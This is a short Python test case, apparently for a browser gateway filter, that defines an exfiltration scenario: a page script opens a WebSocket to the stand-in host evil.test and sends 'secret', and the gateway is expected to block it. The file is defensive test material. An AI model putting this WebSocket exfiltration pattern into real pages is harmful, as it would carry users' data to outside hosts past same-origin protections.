"""A script opens a WebSocket to another site and has a channel in both directions.

The same-origin policy does not hold WebSockets back, and what looks at requests sees one single GET
with an `Upgrade`; everything after it is frames.

Not covered: WebSockets to permitted hosts, which a rule may permit or refuse by itself.
"""

ATTACK = {
    "title": "WebSocket to an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 6455", "ATT&CK T1071.001"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/ws*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Chat</h1><script>const s = new WebSocket('ws://evil.test/ws'); s.onopen = () => "
    "s.send('secret')</script>",
}
